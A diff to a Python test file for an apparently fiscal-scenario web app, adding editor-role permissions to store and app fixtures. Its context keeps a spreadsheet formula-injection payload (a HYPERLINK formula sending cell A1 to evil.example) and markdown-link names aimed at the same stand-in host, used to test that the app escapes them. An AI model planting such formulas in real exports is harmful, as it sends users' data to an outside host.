@@ -28,6 +28,7 @@ from model.template import (
     write_template,
 )
 from report import exports
+from tests.conftest import EDITOR
 
 xlsx_rows_bomb = functools.cache(_rows_bomb)  # built once for the tests that use it
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -283,11 +284,11 @@ def test_a_deleted_scenarios_name_is_shown_literally_on_its_restore_button(
 
     url = f"sqlite:///{tmp_path / 'own.sqlite3'}"
     monkeypatch.setenv("DATABASE_URL", url)  # this test's own store: only its deleted name
-    store = Store(url)
+    store = Store(url).acting_as(EDITOR)
     name = "[x](http://evil.example/a) **b**"
     store.save(name, "fiscal_revenue=7", "v")
     store.delete(name)
-    at = make_app()
+    at = make_app(editor=True)  # the restore button is an editor's control
     at.session_state["store_panel_open"] = True
     at.run()
     assert not at.exception
@@ -307,7 +308,7 @@ def test_an_xlsx_history_upload_is_stored_and_its_hist_link_works(make_app):
             cells[g] = float(r[g]) / 100
             fmts[(i, g + 1)] = "0.0%"
         out.append(cells)
-    at = make_app(page="app_pages/method.py")
+    at = make_app(page="app_pages/method.py", editor=True)  # storing a history: an editor
     name = "[h](http://evil.example) trimmed.xlsx"
     at.file_uploader(key="history_upload").upload(name, _xlsx(out, fmts), "application/x").run()
     assert not at.exception and not at.error
@@ -357,7 +358,7 @@ def test_every_slider_and_box_bound_is_accepted_in_a_link(make_app, ds, page):
 
 
 def test_the_prior_year_box_offers_only_levels_with_a_plausible_h1_growth(make_app, ds):
-    at = make_app(page="app_pages/industry.py")
+    at = make_app("focus=industrial_output_local", page="app_pages/industry.py")
     box = at.number_input(key="as.industrial_output_local.prior_fy")
     for beyond in (box.max * 1.01, box.min * 0.99):
         _, issues = parse_scenario(f"industrial_output_local.prior_fy={format_number(beyond)}", ds)
@@ -381,7 +382,7 @@ def test_names_that_look_the_same_are_the_same_name(tmp_path):
 
     assert check_name("书记\u00a0方案") == check_name("书记 方案") == "书记 方案"
     assert check_name("ＡＢ\u3000 C") == "AB C"
-    store = Store(f"sqlite:///{tmp_path / 's.sqlite3'}")
+    store = Store(f"sqlite:///{tmp_path / 's.sqlite3'}").acting_as(EDITOR)
     store.save("书记 方案", "fai=20", "v")
     with pytest.raises(ValueError, match="already saved"):
         store.save("书记\u00a0方案", "fai=30", "v")
